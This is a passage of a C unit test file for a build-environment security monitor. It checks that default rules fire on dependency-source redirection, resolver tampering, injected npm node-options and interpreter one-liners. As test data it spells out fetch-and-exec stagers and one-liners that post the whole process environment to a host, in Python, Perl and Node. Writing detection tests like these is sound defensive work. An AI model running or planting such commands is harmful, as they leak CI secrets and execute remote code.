	{ "/home/ci/.npmrc", "node-options=--require /tmp/.n/hook.js\n", "/usr/bin/npm", ENV_INJ,
	  false },
	/* resolv.conf by a job, and by the host's DHCP client */
	{ "/etc/resolv.conf", "nameserver 203.0.113.9\n", "/usr/bin/bash", "resolver-changed", true },
	{ "/etc/resolv.conf", "nameserver 10.0.0.2\n", "/usr/sbin/dhclient-script",
	  "resolver-changed", false },
};

/* Rules on what a written file holds: read only where every other test held. */
static void test_default_content(void **state)
{
	struct bw_policy *p = NULL;
	struct bw_event_info *e;
	struct evx x;

	(void)state;
	assert_int_equal(policy_load_default(&p, stderr), 0);
	for (size_t i = 0; i < sizeof(content_cases) / sizeof(content_cases[0]); i++) {
		const struct content_case *c = &content_cases[i];

		e = ev_written(&x, "open-write", c->path, NULL, c->text);
		fx_set(&x.proc, c->exe, ARGV("x"), SH_MAKE);
		if (ev_matches(p, e, c->rule) != c->fires)
			fail_msg("case %zu: %s holding %s, written by %s: %s expected %s", i, c->path,
				 c->text ? c->text : "(unreadable)", c->exe, c->rule,
				 c->fires ? "to fire" : "silent");
	}
	/* renamed or linked onto the file: the new name's content */
	e = ev_written(&x, "rename", "/tmp/h.new", "/etc/hosts", "1.2.3.4 pypi.org");
	fx_set(&x.proc, "/usr/bin/mv", ARGV("mv", "/tmp/h.new", "/etc/hosts"), NPM_ANC);
	assert_true(ev_matches(p, e, "dependency-source-redirected"));
	/* read only when a content: test is reached (and never for a read) */
	e = ev_written(&x, "open-read", "/etc/hosts", NULL, NULL);
	e->file.content = NULL;
	assert_false(ev_matches(p, e, "dependency-source-redirected"));
	policy_free(p);

	/* content: in a rule of one's own; a line at a time, \r\n too */
	e = ev_written(&x, "open-write", "/w/conf", NULL, "a=1\r\nkey = v\r\n");
	assert_true(ev_hit("match: {content: {regex: '^key = v$'}}", e));
	assert_true(ev_hit("match: {content: a=1}", e));
	assert_false(ev_hit("match: {content: {regex: 'a=1.key'}}", e));
	assert_false(ev_hit("match: {not: {content: {prefix: key}}}", e));
	e->file.content = NULL;
	assert_false(ev_hit("match: {content: {prefix: key}}", e));
}

/* An interpreter's one-liner (-c, -e) that connects to a web server; does rule fire? */
struct oneliner_case {
	const char *exe;
	const char *const *argv;
	const char *rule;
	bool fires;
};

#define PY "/usr/bin/python3.11"
#define FETCH_EVAL "interpreter-fetch-eval"
#define ENV_SENT "environment-sent-by-interpreter"

static const struct oneliner_case oneliners[] = {
	/* evaluates what it fetched: a stager; not a one-liner that only fetches */
	{ PY, ARGV("python3", "-c", "import urllib.request as r; exec(r.urlopen(u).read())"),
	  FETCH_EVAL, true },
	{ "/usr/bin/perl", ARGV("perl", "-MLWP::Simple", "-e", "eval get($u)"), FETCH_EVAL, true },
	{ PY, ARGV("python3", "-c", "import os,urllib.request as r; os.system(r.urlopen(u).read())"),
	  FETCH_EVAL, true },
	{ PY, ARGV("python3", "-c", "import urllib.request as r; print(r.urlopen(u).status)"),
	  FETCH_EVAL, false },
	{ PY, ARGV("python3", "-c", "exec(a)"), FETCH_EVAL, true },
	/* takes the whole environment: its upload; not one variable of it */
	{ PY,
	  ARGV("python3", "-c",
	       "import os,urllib.request as u; u.urlopen(h, data=repr(dict(os.environ)).encode())"),
	  ENV_SENT, true },
	{ PY, ARGV("python3", "-c", "import os,requests; requests.post(h, json=os.environ.copy())"),
	  ENV_SENT, true },
	{ "/usr/bin/node",
	  ARGV("node", "-e", "fetch(h,{method:'POST',body:JSON.stringify(process.env)})"), ENV_SENT,
	  true },
	{ "/usr/bin/perl", ARGV("perl", "-MHTTP::Tiny", "-e", "HTTP::Tiny->new->post_form($u, {%ENV})"),
	  ENV_SENT, true },
	{ PY, ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ['URL'])"),
	  ENV_SENT, false },
	{ PY, ARGV("python3", "-c", "import os,urllib.request as u; u.urlopen(os.environ.get('U'))"),
	  ENV_SENT, false },
	{ "/usr/bin/node", ARGV("node", "-e", "fetch(process.env.URL)"), ENV_SENT, false },
	{ "/usr/bin/perl", ARGV("perl", "-e", "print $ENV{HOME}"), ENV_SENT, false },
	/* the environment imported by name */
	{ PY, ARGV("python3", "-c",
		   "from os import environ; import json,urllib.request as u; "
		   "u.urlopen(h, data=json.dumps(dict(environ)).encode())"),
	  ENV_SENT, true },
	{ PY, ARGV("python3", "-c",
		   "from os import path, environ\nimport requests\nrequests.post(h, data=str(environ))"),
	  ENV_SENT, true },
	{ PY, ARGV("python3", "-c",
		   "from os import environ; import urllib.request as u; u.urlopen(environ['URL'])"),
	  ENV_SENT, false },
	{ PY, ARGV("python3", "-c",
		   "from os import environ; import urllib.request as u; u.urlopen(environ.get('U'))"),
	  ENV_SENT, false },
};

/* The default's rules on what an interpreter's one-liner does once it connects. */
static void test_default_oneliners_on_connect(void **state)
{
	struct bw_policy *p = NULL;
	const struct bw_rule *out[8];
	struct bw_event_info *e;
	struct evx x;

	(void)state;
	assert_int_equal(policy_load_default(&p, stderr), 0);
	for (size_t i = 0; i < sizeof(oneliners) / sizeof(oneliners[0]); i++) {
		const struct oneliner_case *c = &oneliners[i];

		e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
		fx_set(&x.proc, c->exe, c->argv, NPM_ANC);
		x.proc.e.program_from = BW_PROG_ARGUMENT;
		if (ev_matches(p, e, c->rule) != c->fires)
			fail_msg("one-liner %zu (%s): rule '%s' %s", i, c->argv[2] ? c->argv[2] : "",
				 c->rule, c->fires ? "did not fire" : "fired");
	}
	/* Not a script file's arguments, nor the one-liner's DNS query. */
	e = ev_connect(&x, "185.199.108.133", 443, "tcp", NULL, 0);
	fx_set(&x.proc, PY, ARGV("python3", "fetch.py", "exec(x)"), NPM_ANC);
	x.proc.e.program_from = BW_PROG_FILE;
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	e = ev_connect(&x, "127.0.0.53", 53, "udp", NULL, 0);
	fx_set(&x.proc, PY, ARGV("python3", "-c", "exec(a)"), NPM_ANC);
	x.proc.e.program_from = BW_PROG_ARGUMENT;
	assert_int_equal(policy_match_event(p, e, out, 8), 0);
	policy_free(p);
}

#undef PY
#undef FETCH_EVAL
#undef ENV_SENT

static void test_default_catches_attacks(void **state)
{
	struct bw_policy *p = NULL;
	struct fx f;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	run_cases(p, attacks, sizeof(attacks) / sizeof(attacks[0]));
	run_event_cases(p, attack_events, sizeof(attack_events) / sizeof(attack_events[0]));
	/* fexecve of a file on disk is not fileless: its exe is a real path */
	fx_set(&f, "/usr/lib/x/real", ARGV("real"), NPM_ANC);
	f.e.filename = "/dev/fd/3";
	assert_false(matches(p, &f.e, "fileless-exec"));
	/* runc's memfd self-copy is tolerated */
	fx_set(&f, "/memfd:runc_cloned:/proc/self/exe (deleted)", ARGV("runc", "init"), NO_ANC);
	assert_int_equal(policy_match(p, &f.e, NULL, 0), 0);
	policy_free(p);
}

struct watch_seen {
	char dirs[8][128];
	int n_dirs;
	int n_patterns;
};

static void watch_cb(const char *dir, const char *rule, unsigned line, void *arg)
{
	struct watch_seen *w = arg;

	if (!dir)
		w->n_patterns++;
	else if (w->n_dirs < 8)
		snprintf(w->dirs[w->n_dirs++], sizeof(w->dirs[0]), "%s", dir);
}

static void test_file_watch_dirs(void **state)
{
	struct bw_policy *p = load_ok(
		"rules:\n"
		"  - name: src\n"
		"    on: file\n"
		"    action: alert\n"
		"    match:\n"
		"      path: [{prefix: /w/src/}, /etc/hosts, {glob: '*.pem'}]\n"
		"  - name: exec-rule\n"
		"    action: alert\n"
		"    match: {cwd: {prefix: /ignored/}}\n");
	struct watch_seen w = { 0 };

	policy_file_watch_dirs(p, watch_cb, &w);
	assert_int_equal(w.n_dirs, 2);
	assert_string_equal(w.dirs[0], "/w/src/");
	assert_string_equal(w.dirs[1], "/etc/");
	assert_int_equal(w.n_patterns, 1);
	policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_string_operators),
		cmocka_unit_test(test_shared_policy),
		cmocka_unit_test(test_exe_filename_basename),
		cmocka_unit_test(test_argv_conditions),
		cmocka_unit_test(test_cmdline_truncation),
		cmocka_unit_test(test_cwd_uid_euid),
		cmocka_unit_test(test_parent_ancestor),
		cmocka_unit_test(test_group_not_any),
		cmocka_unit_test(test_match_order_and_count),
		cmocka_unit_test(test_audit_vs_enforce),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_exec_wake_keys),
		cmocka_unit_test(test_deny_accepted),
		cmocka_unit_test(test_deny_rejected),
		cmocka_unit_test(test_file_watch_dirs),
		cmocka_unit_test(test_error_unknown_keys),
		cmocka_unit_test(test_error_values),
		cmocka_unit_test(test_regex_size_limits),
		cmocka_unit_test(test_error_types),
		cmocka_unit_test(test_error_structure),
		cmocka_unit_test(test_error_yaml_syntax),
		cmocka_unit_test(test_error_all_collected),
		cmocka_unit_test(test_errs_null_and_bad_args),
		cmocka_unit_test(test_load_file),
		cmocka_unit_test(test_print),
		cmocka_unit_test(test_print_held),
		cmocka_unit_test(test_on_connect_conditions),
		cmocka_unit_test(test_on_dns_conditions),
		cmocka_unit_test(test_on_file_conditions),
		cmocka_unit_test(test_tracked_and_leftovers),
		cmocka_unit_test(test_on_privilege_conditions),
		cmocka_unit_test(test_allowlist),
		cmocka_unit_test(test_on_kinds_kept_apart),
		cmocka_unit_test(test_on_audit_vs_enforce),
		cmocka_unit_test(test_on_errors),
		cmocka_unit_test(test_on_print),
		cmocka_unit_test(test_cmd_policy),
		cmocka_unit_test(test_default_loads),
		cmocka_unit_test(test_default_silent_on_builds),
		cmocka_unit_test(test_container),
		cmocka_unit_test(test_default_catches_attacks),
		cmocka_unit_test(test_default_content),
		cmocka_unit_test(test_default_oneliners_on_connect),
		cmocka_unit_test(test_default_provenance),
		cmocka_unit_test(test_deny_dynamic),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
